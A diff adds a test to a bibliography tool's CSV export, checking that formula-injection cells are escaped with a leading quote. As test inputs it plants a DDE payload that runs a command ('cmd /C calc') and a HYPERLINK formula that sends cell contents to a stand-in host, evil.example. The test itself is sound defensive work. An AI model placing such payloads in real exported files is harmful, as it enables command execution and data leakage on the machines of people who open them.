@@ -224,3 +224,38 @@ describe('export: bibliographies that keep the tags', () => {
     expect(r.stderr).toMatch(/^Error: unknown claim 'C99'/);
   });
 });
+
+// https://owasp.org/www-community/attacks/CSV_Injection: a spreadsheet runs a cell that starts with
+// = + - @, tab or CR. Hostile text can come from PubMed, an imported file or another reviewer.
+describe('export --format csv: formula injection', () => {
+  it('writes every cell that a spreadsheet would run with a leading quote, the file still RFC 4180', async () => {
+    const Database = (await import('better-sqlite3')).default;
+    const dir = tempDir();
+    const db = path.join(dir, 'lib.db');
+    const pmid = 11748933; // biopython__pubmed2.xml
+    expect(runCli(['import', fixture('efetch/biopython__pubmed2.xml')], { db }).code).toBe(0);
+    const sql = new Database(db);
+    const { authors } = sql.prepare('SELECT authors FROM papers WHERE pmid = ?').get(pmid) as { authors: string };
+    const list = JSON.parse(authors) as { last: string | null }[];
+    list[0]!.last = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+    sql.prepare('UPDATE papers SET title = ?, journal = ?, doi = ?, authors = ? WHERE pmid = ?')
+      .run('=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', JSON.stringify(list), pmid);
+    sql.close();
+    expect(runCli(['tag', String(pmid), 'C7', 'supports', '--note', '=1+1'], { db }).code).toBe(0);
+
+    const r = runCli(['export', '--format', 'csv', '--claim', 'C7'], { db });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
+    const rows = readCsv(r.stdout);
+    expect(rows).toHaveLength(2);
+    expect(rows[1]).toHaveLength(10);
+    const row = Object.fromEntries(rows[0]!.map((c, i) => [c, rows[1]![i]!]));
+    expect(row).toMatchObject({
+      pmid: String(pmid), title: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, journal: "'+1+2", doi: "'-2+3",
+      tags: 'C7:supports', notes: 'C7 supports (tester): =1+1',
+    });
+    expect(row.authors!.startsWith("'@SUM(1+1)")).toBe(true);
+    // No cell of the file starts with a formula character.
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
